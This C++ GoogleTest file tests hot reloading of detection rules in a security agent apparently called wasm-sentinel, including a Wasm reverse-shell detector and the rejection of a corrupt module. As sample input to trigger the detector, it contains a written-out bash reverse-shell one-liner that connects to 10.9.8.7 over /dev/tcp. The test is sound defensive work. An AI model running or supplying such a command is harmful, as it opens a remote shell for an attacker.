// Hot reload in the wasm-sentinel binary (rules.watch): a Wasm module and its rule file dropped
// into the rules directory of a running agent start detecting without a restart or a signal,
// with the module's own alert title; a broken module leaves the running rules in place.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>

#include "../cli/cli_test_util.h"

namespace {

namespace fs = std::filesystem;

using wsn::cli_test::slurp;

// Writes `text` to `to` through a rename, as a deployment tool would.
void install(const fs::path& to, const std::string& text) {
  const fs::path tmp = to.string() + ".partial";
  std::ofstream(tmp, std::ios::binary) << text;
  fs::rename(tmp, to);
}

class HotReloadCliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("wsn_hot_reload_" + std::to_string(::getpid()));
    fs::create_directories(dir_ / "rules");
    std::ofstream(dir_ / "rules" / "base.yml")
        << "id: t.base\nname: Base\ntype: eql\nquery: process where process.name == \"base\"\n";
    std::ofstream(dir_ / "config.yml") << "rules:\n  watch: true\n";
  }
  void TearDown() override {
    if (in_fd_ >= 0) close(in_fd_);
    if (pid_ > 0) {
      kill(pid_, SIGKILL);
      waitpid(pid_, nullptr, 0);
    }
    fs::remove_all(dir_);
  }

  // Replays standard input (a stream that never ends until we close it) with the config above.
  void start() {
    int in_pipe[2];
    ASSERT_EQ(pipe(in_pipe), 0);
    pid_ = fork();
    ASSERT_GE(pid_, 0);
    if (pid_ == 0) {
      dup2(in_pipe[0], 0);
      close(in_pipe[1]);
      const int e = ::open(err_path().c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
      dup2(e, 1);
      dup2(e, 2);
      const std::string rules = (dir_ / "rules").string();
      const std::string config = (dir_ / "config.yml").string();
      const std::string cache = (dir_ / "cache").string();
      setenv("WSN_WASM_CACHE_DIR", cache.c_str(), 1);
      execl(WSN_CLI_PATH, WSN_CLI_PATH, "replay", "-", "--rules", rules.c_str(), "-c",
            config.c_str(), "--output", out_path().c_str(), "-q", static_cast<char*>(nullptr));
      _exit(127);
    }
    close(in_pipe[0]);
    in_fd_ = in_pipe[1];
  }

  void send_process(const std::string& name, const std::string& cmdline) {
    const std::string line =
        "{\"event\":{\"category\":[\"process\"],\"action\":\"exec\"},"
        "\"process\":{\"name\":\"" +
        name + "\",\"command_line\":\"" + cmdline + "\"}}\n";
    ASSERT_EQ(::write(in_fd_, line.data(), line.size()), static_cast<ssize_t>(line.size()));
  }

  // Keeps sending `name`/`cmdline` until an alert line containing `needle` shows up.
  bool alert_appears(const std::string& name, const std::string& cmdline,
                     const std::string& needle) {
    for (int k = 0; k < 300; ++k) {
      send_process(name, cmdline);
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
      if (slurp(out_path()).find(needle) != std::string::npos) return true;
    }
    return false;
  }

  bool stderr_says(const std::string& needle) {
    for (int k = 0; k < 300; ++k) {
      if (slurp(err_path()).find(needle) != std::string::npos) return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    return false;
  }

  fs::path out_path() const { return dir_ / "alerts.jsonl"; }
  fs::path err_path() const { return dir_ / "stderr.txt"; }

  fs::path dir_;
  pid_t pid_ = -1;
  int in_fd_ = -1;
};

TEST_F(HotReloadCliTest, ModuleDroppedIntoTheRulesDirectoryDetectsWithoutARestart) {
  start();
  ASSERT_TRUE(alert_appears("base", "base", "\"id\":\"t.base\"")) << slurp(err_path());

  // Deploy a Wasm detector: the module first, then the rule file naming it.
  fs::copy_file(WSN_WASM_SDK_OUT "/c_reverse_shell.wasm", dir_ / "rules" / "shell.wasm.partial");
  fs::rename(dir_ / "rules" / "shell.wasm.partial", dir_ / "rules" / "shell.wasm");
  install(dir_ / "rules" / "shell.yml",
          "id: t.shell\nname: Reverse shell (Wasm)\nseverity: low\ntype: wasm\n"
          "module: shell.wasm\n");
  ASSERT_TRUE(stderr_says("rules reloaded (rule files changed; 2 rules)")) << slurp(err_path());
  ASSERT_TRUE(alert_appears("bash", "bash -i >& /dev/tcp/10.9.8.7/443 0>&1",
                            "\"message\":\"Reverse shell command line\""))
      << slurp(err_path());

  // A broken new version of the module: rejected, the running version keeps detecting.
  install(dir_ / "rules" / "shell.wasm", "garbage, not a Wasm module");
  ASSERT_TRUE(stderr_says("the previously loaded version of this rule keeps running"))
      << slurp(err_path());
  ASSERT_TRUE(stderr_says("rule reload (rule files changed) rejected")) << slurp(err_path());
  const std::string before = slurp(out_path());
  const size_t shells_before = [&] {
    size_t n = 0;
    for (size_t at = before.find("\"id\":\"t.shell\""); at != std::string::npos;
         at = before.find("\"id\":\"t.shell\"", at + 1)) {
      ++n;
    }
    return n;
  }();
  send_process("bash", "bash -i >& /dev/tcp/10.9.8.7/443 0>&1");
  bool still_detects = false;
  for (int k = 0; k < 200 && !still_detects; ++k) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
    const std::string now = slurp(out_path());
    size_t n = 0;
    for (size_t at = now.find("\"id\":\"t.shell\""); at != std::string::npos;
         at = now.find("\"id\":\"t.shell\"", at + 1)) {
      ++n;
    }
    still_detects = n > shells_before;
  }
  EXPECT_TRUE(still_detects) << slurp(err_path());

  close(in_fd_);  // end of input: the run finishes cleanly
  in_fd_ = -1;
  int status = 0;
  ASSERT_EQ(waitpid(pid_, &status, 0), pid_);
  pid_ = -1;
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0) << slurp(err_path());
}

}  // namespace
